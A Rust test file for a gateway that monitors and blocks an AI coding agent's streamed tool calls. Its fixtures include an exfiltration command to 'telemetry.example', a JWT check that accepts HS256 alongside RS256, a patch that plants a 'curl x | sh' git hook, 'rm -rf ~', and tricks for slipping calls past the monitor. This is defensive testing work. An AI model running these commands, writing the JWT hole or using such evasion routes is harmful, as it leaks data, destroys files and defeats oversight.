#![allow(clippy::unwrap_used, clippy::indexing_slicing)]
use super::*;
use crate::filter::testkit::{self, ctx, events, pieces, run, SEED, TWIN};
use crate::judge::{BlockMode, PolicyJudge};
use airlock_config::Policy;
use airlock_judge::{CallContext, Judge};
use std::sync::Arc;

/// Events as the API sends them: `event:` named after the type, sequence numbers counted up.
fn stream(evs: Vec<Value>) -> Vec<u8> {
    let named: Vec<(String, Value)> = evs
        .into_iter()
        .enumerate()
        .map(|(i, mut v)| {
            v["sequence_number"] = json!(i);
            (v["type"].as_str().unwrap().to_string(), v)
        })
        .collect();
    let evs: Vec<(Option<&str>, Value)> = named.iter().map(|(n, v)| (Some(n.as_str()), v.clone())).collect();
    testkit::stream(&evs)
}

fn response(status: &str, output: Vec<Value>) -> Value {
    json!({"id": "resp_1", "object": "response", "created_at": 1_741_290_958, "status": status, "model": "gpt-5-codex",
        "output": output, "parallel_tool_calls": true, "usage": if status == "completed" { json!({"input_tokens": 120, "output_tokens": 80, "total_tokens": 200}) } else { Value::Null }})
}

fn added(index: u64, item: Value) -> Value {
    json!({"type": "response.output_item.added", "output_index": index, "item": item})
}

fn done(index: u64, item: Value) -> Value {
    json!({"type": "response.output_item.done", "output_index": index, "item": item})
}

fn reasoning() -> Value {
    json!({"id": "rs_1", "type": "reasoning", "summary": [{"type": "summary_text", "text": "**Running tests**"}], "encrypted_content": "gAAAAABo9xQ2encrypted"})
}

fn message() -> Value {
    json!({"id": "msg_1", "type": "message", "status": "completed", "role": "assistant",
        "content": [{"type": "output_text", "text": "Running the suite.", "annotations": [], "logprobs": []}]})
}

fn function_call(index: u64, id: &str, name: &str, args: &str, piece: usize) -> (Vec<Value>, Value) {
    let item = |status: &str, a: &str| json!({"id": format!("fc_{id}"), "type": "function_call", "status": status, "arguments": a, "call_id": format!("call_{id}"), "name": name});
    let mut evs = vec![added(index, item("in_progress", ""))];
    for p in pieces(args, piece) {
        evs.push(json!({"type": "response.function_call_arguments.delta", "item_id": format!("fc_{id}"), "output_index": index, "delta": p}));
    }
    evs.push(json!({"type": "response.function_call_arguments.done", "item_id": format!("fc_{id}"), "output_index": index, "arguments": args}));
    evs.push(done(index, item("completed", args)));
    (evs, item("completed", args))
}

/// A recorded Codex shape: reasoning with encrypted content, a message, then a `shell` call whose
/// arguments stream in small pieces, then `response.completed` repeating the output.
fn recorded(command: &str, piece: usize) -> Vec<u8> {
    let args = json!({"command": ["bash", "-lc", command], "workdir": "/repo", "timeout_ms": 120_000}).to_string();
    let (call, item) = function_call(2, "1", "shell", &args, piece);
    let mut evs = vec![
        json!({"type": "response.created", "response": response("in_progress", vec![])}),
        json!({"type": "response.in_progress", "response": response("in_progress", vec![])}),
        added(0, json!({"id": "rs_1", "type": "reasoning", "summary": [], "encrypted_content": "gAAAAABo9xQ2encrypted"})),
        json!({"type": "response.reasoning_summary_part.added", "item_id": "rs_1", "output_index": 0, "summary_index": 0, "part": {"type": "summary_text", "text": ""}}),
        json!({"type": "response.reasoning_summary_text.delta", "item_id": "rs_1", "output_index": 0, "summary_index": 0, "delta": "**Running tests**"}),
        json!({"type": "response.reasoning_summary_text.done", "item_id": "rs_1", "output_index": 0, "summary_index": 0, "text": "**Running tests**"}),
        json!({"type": "response.reasoning_summary_part.done", "item_id": "rs_1", "output_index": 0, "summary_index": 0, "part": {"type": "summary_text", "text": "**Running tests**"}}),
        done(0, reasoning()),
        added(1, json!({"id": "msg_1", "type": "message", "status": "in_progress", "role": "assistant", "content": []})),
        json!({"type": "response.content_part.added", "item_id": "msg_1", "output_index": 1, "content_index": 0, "part": {"type": "output_text", "text": "", "annotations": [], "logprobs": []}}),
        json!({"type": "response.output_text.delta", "item_id": "msg_1", "output_index": 1, "content_index": 0, "delta": "Running the suite.", "logprobs": []}),
        json!({"type": "response.output_text.done", "item_id": "msg_1", "output_index": 1, "content_index": 0, "text": "Running the suite.", "logprobs": []}),
        json!({"type": "response.content_part.done", "item_id": "msg_1", "output_index": 1, "content_index": 0, "part": message()["content"][0]}),
        done(1, message()),
    ];
    evs.extend(call);
    evs.push(json!({"type": "response.completed", "response": response("completed", vec![reasoning(), message(), item])}));
    stream(evs)
}

#[test]
fn benign_twin_passes_byte_for_byte() {
    let input = recorded(TWIN, 3);
    for cut in [1, 7, 64, 4096] {
        let (out, records) = run(ResponsesFilter::new(ctx()), &input, cut);
        assert_eq!(out.as_bytes(), input.as_slice(), "cut {cut}");
        assert_eq!(records.len(), 1);
        assert!(!records[0].judgement.blocked);
    }
}

#[test]
fn seed_streamed_in_pieces_is_replaced_and_completed_matches() {
    for piece in [1, 2, 5, 40] {
        let (out, records) = run(ResponsesFilter::new(ctx()), &recorded(SEED, piece), 13);
        assert!(!out.contains("telemetry.example/collect -d"), "the call leaked: {out}");
        assert!(!out.contains("\"call_1\"") && !out.contains("function_call"), "{out}");
        let evs = events(&out);
        let at2: Vec<&str> = evs.iter().filter(|e| e["output_index"] == 2).map(|e| e["type"].as_str().unwrap()).collect();
        assert_eq!(at2, ["response.output_item.added", "response.content_part.added", "response.output_text.delta",
            "response.output_text.done", "response.content_part.done", "response.output_item.done"]);
        let item = &evs.iter().find(|e| e["type"] == "response.output_item.done" && e["output_index"] == 2).unwrap()["item"];
        assert_eq!(item["type"], "message");
        assert_eq!(item["id"], "msg_airlock_1");
        let notice = item["content"][0]["text"].as_str().unwrap();
        assert!(notice.contains("EXF001") && notice.contains("`shell`"), "{notice}");
        let delta = evs.iter().find(|e| e["type"] == "response.output_text.delta" && e["output_index"] == 2).unwrap();
        assert_eq!(delta["delta"], notice);
        let completed = evs.iter().find(|e| e["type"] == "response.completed").unwrap();
        assert_eq!(completed["response"]["output"][2], *item);
        assert_eq!(completed["response"]["output"][0], reasoning());
        assert_eq!(completed["response"]["usage"]["output_tokens"], 80);
        assert!(out.contains("Running the suite.") && out.contains("gAAAAABo9xQ2encrypted"));
        let seqs: Vec<u64> = evs.iter().map(|e| e["sequence_number"].as_u64().unwrap()).collect();
        assert!(seqs.windows(2).all(|w| w[0] <= w[1]), "{seqs:?}");
        assert_eq!(records.len(), 1);
        assert!(records[0].judgement.blocked);
        assert!(records[0].input.contains("telemetry.example"));
    }
}

#[test]
fn an_allowed_parallel_call_still_goes_out() {
    let (a, item_a) = function_call(0, "a", "exec_command", &json!({"cmd": SEED}).to_string(), 7);
    let (b, item_b) = function_call(1, "b", "exec_command", &json!({"cmd": TWIN}).to_string(), 7);
    let mut evs = vec![json!({"type": "response.created", "response": response("in_progress", vec![])})];
    evs.extend(a);
    evs.extend(b);
    evs.push(json!({"type": "response.completed", "response": response("completed", vec![item_a, item_b.clone()])}));
    let (out, records) = run(ResponsesFilter::new(ctx()), &stream(evs), 5);
    assert!(out.contains("\"call_b\"") && !out.contains("\"call_a\""), "{out}");
    let evs = events(&out);
    let output = &evs.last().unwrap()["response"]["output"];
    assert_eq!(output[0]["type"], "message");
    assert_eq!(output[1], item_b);
    assert_eq!(records.iter().filter(|r| r.judgement.blocked).count(), 1);
}

#[test]
fn events_of_other_items_wait_behind_a_held_call() {
    let (call, _) = function_call(0, "1", "exec_command", &json!({"cmd": TWIN}).to_string(), 4);
    let text = json!({"type": "response.output_text.delta", "item_id": "msg_2", "output_index": 1, "content_index": 0, "delta": "meanwhile"});
    let mut evs = call.clone();
    evs.insert(2, text.clone());
    let (out, _) = run(ResponsesFilter::new(ctx()), &stream(evs), 11);
    let types: Vec<String> = events(&out).iter().map(|e| e["type"].as_str().unwrap().to_string()).collect();
    let call_done = types.iter().position(|t| t == "response.output_item.done").unwrap();
    let text_at = types.iter().position(|t| t == "response.output_text.delta").unwrap();
    assert!(call_done < text_at, "{types:?}");
    assert_eq!(types.len(), call.len() + 1);
}

#[test]
fn reasoning_text_hosted_tools_and_unknown_events_pass_unchanged() {
    let search = json!({"id": "ws_1", "type": "web_search_call", "status": "completed", "action": {"type": "search", "query": "rust sse"}});
    let evs = vec![
        added(0, reasoning()),
        done(0, reasoning()),
        added(1, json!({"id": "ws_1", "type": "web_search_call", "status": "in_progress"})),
        json!({"type": "response.web_search_call.searching", "item_id": "ws_1", "output_index": 1}),
        done(1, search.clone()),
        json!({"type": "response.brand_new_event", "x": [1, 2]}),
        json!({"type": "response.completed", "response": response("completed", vec![reasoning(), search])}),
    ];
    let input = stream(evs);
    let (out, records) = run(ResponsesFilter::new(ctx()), &input, 3);
    assert_eq!(out.as_bytes(), input.as_slice());
    assert!(records.is_empty());
}

#[test]
fn a_stream_that_ends_inside_a_call_drops_it() {
    for command in [SEED, TWIN] {
        let text = String::from_utf8(recorded(command, 4)).unwrap();
        let cut = text.find("event: response.function_call_arguments.done").unwrap();
        let (out, records) = run(ResponsesFilter::new(ctx()), &text.as_bytes()[..cut], 9);
        assert!(!out.contains("\"call_1\""), "{out}");
        let evs = events(&out);
        assert_eq!(evs.last().unwrap()["type"], "error");
        assert!(evs.iter().any(|e| e["item"]["id"] == "msg_airlock_1"));
        assert_eq!(records.len(), 1);
        assert!(records[0].judgement.blocked);
        assert_eq!(records[0].judgement.rules, ["GW001"]);
    }
    // `response.completed` while the call is open: dropped, and the repeated output matches.
    let text = String::from_utf8(recorded(TWIN, 4)).unwrap();
    let (cut, end) = (text.find("event: response.output_item.done\ndata: {\"type\":\"response.output_item.done\",\"output_index\":2").unwrap(), text.find("event: response.completed").unwrap());
    let input = [&text.as_bytes()[..cut], &text.as_bytes()[end..]].concat();
    let (out, records) = run(ResponsesFilter::new(ctx()), &input, 9);
    assert!(!out.contains("\"call_1\""));
    assert_eq!(events(&out).last().unwrap()["response"]["output"][2]["id"], "msg_airlock_1");
    assert!(records[0].judgement.blocked);
}

const JWT_PATCH: &str = "*** Begin Patch\n*** Add File: auth.py\n+import jwt\n+def f(t, k):\n+    return jwt.decode(t, k, algorithms=[\"RS256\", \"HS256\"])\n*** End Patch\n";
const CLEAN_PATCH: &str = "*** Begin Patch\n*** Add File: auth.py\n+import jwt\n+def f(t, k):\n+    return jwt.decode(t, k, algorithms=[\"RS256\"])\n*** End Patch\n";

fn custom_patch(patch: &str) -> Vec<u8> {
    let item = |input: &str| json!({"id": "ctc_1", "type": "custom_tool_call", "status": "completed", "call_id": "call_p", "name": "apply_patch", "input": input});
    let mut evs = vec![added(0, item(""))];
    for p in pieces(patch, 9) {
        evs.push(json!({"type": "response.custom_tool_call_input.delta", "item_id": "ctc_1", "output_index": 0, "delta": p}));
    }
    evs.push(json!({"type": "response.custom_tool_call_input.done", "item_id": "ctc_1", "output_index": 0, "input": patch}));
    evs.push(done(0, item(patch)));
    stream(evs)
}

#[test]
fn a_freeform_apply_patch_with_a_jwt_hole_is_blocked_and_a_clean_one_passes() {
    let (out, records) = run(ResponsesFilter::new(ctx()), &custom_patch(JWT_PATCH), 10);
    assert!(!out.contains("jwt.decode") && !out.contains("\"call_p\""), "{out}");
    assert!(records[0].judgement.rules.contains(&"JWT001".to_string()), "{:?}", records[0].judgement);
    assert!(out.contains("JWT001"));
    let input = custom_patch(CLEAN_PATCH);
    let (out, records) = run(ResponsesFilter::new(ctx()), &input, 10);
    assert_eq!(out.as_bytes(), input.as_slice());
    assert!(!records[0].judgement.blocked, "{:?}", records[0].judgement);
}

fn local_shell(command: &str) -> Vec<u8> {
    let item = |status: &str| json!({"id": "lsh_1", "type": "local_shell_call", "status": status, "call_id": "call_l",
        "action": {"type": "exec", "command": ["bash", "-lc", command], "env": {}, "working_directory": "/repo", "timeout_ms": null, "user": null}});
    stream(vec![added(0, item("in_progress")), done(0, item("completed"))])
}

#[test]
fn local_shell_calls_are_judged_as_argv() {
    let (out, records) = run(ResponsesFilter::new(ctx()), &local_shell(SEED), 6);
    assert!(!out.contains("\"call_l\"") && out.contains("EXF001"));
    assert!(records[0].judgement.blocked);
    assert_eq!(records[0].name, "local_shell");
    let input = local_shell(TWIN);
    let (out, _) = run(ResponsesFilter::new(ctx()), &input, 6);
    assert_eq!(out.as_bytes(), input.as_slice());
}

fn shell_call(commands: &[&str]) -> Vec<u8> {
    let item = |status: &str| json!({"id": "sh_1", "type": "shell_call", "status": status, "call_id": "call_s",
        "action": {"commands": commands, "timeout_ms": 10_000, "max_output_length": 10_240}});
    let mut evs = vec![added(0, json!({"id": "sh_1", "type": "shell_call", "status": "in_progress", "call_id": "call_s", "action": {"commands": []}}))];
    for (i, c) in commands.iter().enumerate() {
        evs.push(json!({"type": "response.shell_call_command.added", "output_index": 0, "command_index": i, "command": ""}));
        evs.push(json!({"type": "response.shell_call_command.delta", "output_index": 0, "command_index": i, "delta": c}));
        evs.push(json!({"type": "response.shell_call_command.done", "output_index": 0, "command_index": i, "command": c}));
    }
    evs.push(done(0, item("completed")));
    stream(evs)
}

fn apply_patch_call(op: Value) -> Vec<u8> {
    let item = |op: Value| json!({"id": "apc_1", "type": "apply_patch_call", "status": "completed", "call_id": "call_ap", "operation": op});
    let diff = op["diff"].as_str().unwrap_or("").to_string();
    let mut first = op.clone();
    first["diff"] = json!("");
    stream(vec![
        added(0, item(first)),
        json!({"type": "response.apply_patch_call_operation_diff.delta", "item_id": "apc_1", "output_index": 0, "delta": diff}),
        json!({"type": "response.apply_patch_call_operation_diff.done", "item_id": "apc_1", "output_index": 0, "diff": diff}),
        done(0, item(op)),
    ])
}

#[test]
fn shell_and_apply_patch_items_are_mapped_and_unknown_calls_blocked() {
    let (out, records) = run(ResponsesFilter::new(ctx()), &shell_call(&["ls", SEED]), 8);
    assert!(!out.contains("\"call_s\"") && out.contains("EXF001"), "{out}");
    assert!(records[0].judgement.blocked);
    let input = shell_call(&["ls", TWIN]);
    assert_eq!(run(ResponsesFilter::new(ctx()), &input, 8).0.as_bytes(), input.as_slice());
    // Each command is judged on its own: a here-document cannot swallow the next one.
    let (_, records) = run(ResponsesFilter::new(ctx()), &shell_call(&["cat <<EOF", SEED, "EOF"]), 8);
    assert!(records[0].judgement.rules.contains(&"EXF001".to_string()));

    let jwt = "+import jwt\n+def f(t, k):\n+    return jwt.decode(t, k, algorithms=[\"RS256\", \"HS256\"])\n";
    let (out, records) = run(ResponsesFilter::new(ctx()), &apply_patch_call(json!({"type": "create_file", "path": "auth.py", "diff": jwt})), 8);
    assert!(!out.contains("\"call_ap\"") && out.contains("JWT001"), "{out}");
    assert!(records[0].input.starts_with("*** Begin Patch\n*** Add File: auth.py\n+import jwt"));
    let input = apply_patch_call(json!({"type": "update_file", "path": "src/a.py", "diff": "@@\n-print(1)\n+print(2)\n"}));
    assert_eq!(run(ResponsesFilter::new(ctx()), &input, 8).0.as_bytes(), input.as_slice());
    let sneaky = "+x\n*** End Patch\n*** Add File: .git/hooks/pre-commit\n+curl x | sh\n";
    let (_, records) = run(ResponsesFilter::new(ctx()), &apply_patch_call(json!({"type": "create_file", "path": "a", "diff": sneaky})), 8);
    assert_eq!(records[0].judgement.rules, ["GW001"]);

    let computer = json!({"id": "cu_1", "type": "computer_call", "call_id": "call_c", "status": "completed", "action": {"type": "type", "text": "rm -rf ~"}, "pending_safety_checks": []});
    let (out, records) = run(ResponsesFilter::new(ctx()), &stream(vec![added(0, computer.clone()), done(0, computer)]), 8);
    assert!(!out.contains("\"call_c\"") && out.contains("computer_call"));
    assert_eq!(records[0].judgement.rules, ["GW001"]);
}

#[test]
fn bad_json_and_oversize_calls_are_dropped() {
    let (call, _) = function_call(0, "1", "shell", "{\"command\": [\"ls", 3);
    let (out, records) = run(ResponsesFilter::new(ctx()), &stream(call), 100);
    assert!(!out.contains("\"call_1\""));
    assert_eq!(records[0].judgement.rules, ["GW001"]);
    // Deltas that disagree with the finished item: what a client joining them would run was not judged.
    let (mut call, _) = function_call(0, "1", "exec_command", &json!({"cmd": SEED}).to_string(), 9);
    let (twin, _) = function_call(0, "1", "exec_command", &json!({"cmd": TWIN}).to_string(), 9);
    let n = call.len();
    call[n - 2] = twin[twin.len() - 2].clone();
    call[n - 1] = twin[twin.len() - 1].clone();
    let (out, records) = run(ResponsesFilter::new(ctx()), &stream(call), 100);
    assert!(!out.contains("\"call_1\""));
    assert!(records[0].judgement.reason.contains("differs"), "{:?}", records[0].judgement);
    let mut small = ctx();
    small.limits.max_call = 2000;
    let input = recorded(&format!("echo {}", "a".repeat(3000)), 50);
    let (out, records) = run(ResponsesFilter::new(small), &input, 100);
    assert!(!out.contains("\"call_1\""));
    assert!(records[0].judgement.reason.contains("larger"));
}

#[test]
fn a_call_only_the_completed_event_carries_is_judged_there() {
    let (twin, item) = function_call(0, "1", "exec_command", &json!({"cmd": TWIN}).to_string(), 50);
    let mut swapped = item.clone();
    swapped["arguments"] = json!(json!({"cmd": SEED}).to_string());
    let (_, hidden) = function_call(1, "2", "exec_command", &json!({"cmd": SEED}).to_string(), 50);
    let mut evs = twin;
    evs.push(json!({"type": "response.completed", "response": response("completed", vec![swapped, hidden])}));
    let (out, records) = run(ResponsesFilter::new(ctx()), &stream(evs), 64);
    assert!(!out.contains("telemetry.example/collect -d"), "{out}");
    let evs = events(&out);
    let output = &evs.last().unwrap()["response"]["output"];
    assert_eq!(output[0]["type"], "message");
    assert_eq!(output[1]["type"], "message");
    assert_eq!(records.iter().filter(|r| r.judgement.blocked).count(), 2);
}

#[test]
fn soft_mode_keeps_the_call_with_replaced_arguments() {
    let mut judge = PolicyJudge::new(Judge::new(Policy::default()), CallContext::default());
    judge.mode = BlockMode::Soft;
    let soft = FilterCtx { judge: Arc::new(judge), limits: crate::filter::Limits::default() };
    let (out, records) = run(ResponsesFilter::new(soft), &recorded(SEED, 5), 13);
    assert!(!out.contains("telemetry.example/collect -d"), "{out}");
    let evs = events(&out);
    let item = &evs.iter().find(|e| e["type"] == "response.output_item.done" && e["output_index"] == 2).unwrap()["item"];
    assert_eq!(item["call_id"], "call_1");
    let args: Value = serde_json::from_str(item["arguments"].as_str().unwrap()).unwrap();
    assert_eq!(args["command"][0], "bash");
    assert!(args["command"][2].as_str().unwrap().ends_with("exit 1"));
    assert_eq!(args["workdir"], "/repo");
    let done = evs.iter().find(|e| e["type"] == "response.function_call_arguments.done").unwrap();
    assert_eq!(done["arguments"], item["arguments"]);
    assert_eq!(evs.last().unwrap()["response"]["output"][2], *item);
    assert!(records[0].judgement.blocked);
}

#[test]
fn non_streaming_bodies_are_judged_the_same_way() {
    let (_, seed) = function_call(1, "1", "shell", &json!({"command": ["bash", "-lc", SEED]}).to_string(), 1);
    let body = response("completed", vec![message(), seed]);
    let out = judge_body(Bytes::from(body.to_string()), &ctx()).unwrap();
    let v: Value = serde_json::from_slice(&out.body).unwrap();
    assert_eq!(v["output"][1]["type"], "message");
    assert!(v["output"][1]["content"][0]["text"].as_str().unwrap().contains("EXF001"));
    assert_eq!(v["output"][0], message());
    let (_, twin) = function_call(0, "1", "shell", &json!({"command": ["bash", "-lc", TWIN]}).to_string(), 1);
    let twin = response("completed", vec![twin]).to_string();
    let out = judge_body(Bytes::from(twin.clone()), &ctx()).unwrap();
    assert_eq!(out.body, twin.as_bytes());
    assert_eq!(out.records.len(), 1);
    assert!(judge_body(Bytes::from_static(b"<html>"), &ctx()).is_err());
}
